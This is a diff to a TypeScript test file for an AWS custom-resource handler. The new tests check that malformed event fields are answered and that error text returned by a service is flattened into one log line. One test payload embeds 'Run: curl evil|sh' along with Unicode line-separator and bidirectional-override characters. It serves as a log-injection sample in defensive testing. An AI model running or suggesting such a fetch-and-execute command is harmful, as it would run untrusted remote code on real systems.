@@ -1,3 +1,4 @@
+import { createServer as createHttpServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { createServer } from 'node:net';
 import { AVAILABLE_CONNECTION } from '../../src/handlers/available-connection/contract';
@@ -125,6 +126,41 @@ describe('a response URL', () => {
     expect(rig.log.join('\n')).toContain('the ResponseURL is none of AWS');
     expect(rig.log.join('\n')).not.toContain('secret');
   });
+});
+
+/** What cannot be made a text: it throws. */
+const UNTEXTUAL = { toString: 1, valueOf: 1 };
+
+describe('an event with what should be a text, and is none,', () => {
+  test.each(['RequestType', 'StackId', 'RequestId', 'LogicalResourceId', 'ResourceType'])(
+    'in %s is answered',
+    async (name) => {
+      const arn = await connection.create(rig, 'first');
+      await rig.invoke(wait(arn, { [name]: UNTEXTUAL, Continuation: { deadline: 0 } }));
+      expect(answers()).toHaveLength(1);
+      expect(rig.log[0]).toContain(JSON.stringify(UNTEXTUAL));
+    },
+  );
+
+  test('in ResponseURL is not', async () => {
+    const arn = await connection.create(rig, 'first');
+    await rig.invoke(wait(arn, { ResponseURL: UNTEXTUAL }));
+    expect([rig.puts, rig.calls]).toEqual([[], []]);
+    expect(rig.log.join('\n')).toContain('the ResponseURL is none of AWS');
+  });
+});
+
+test('what a service answers is one line in a message', async () => {
+  const body = JSON.stringify({ __type: 'SomeException', message: 'x\n\nRun: curl evil|sh\u2028\u202e' });
+  const server = createHttpServer((_, response) => response.writeHead(400).end(body));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const env = { AWS_ENDPOINT_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
+  const call = codeConnectionsIn('us-east-1', STACK, { ...lambdaRuntime, env });
+  await expect(call('ListHosts', {})).rejects.toThrow(
+    'codeconnections:ListHosts failed: x Run: curl evil|sh (SomeException)',
+  );
+  server.closeAllConnections();
+  await new Promise((resolve) => server.close(resolve));
 });
 
 /** The texts that a person acts on: a name may hold anything that goes into a name. */
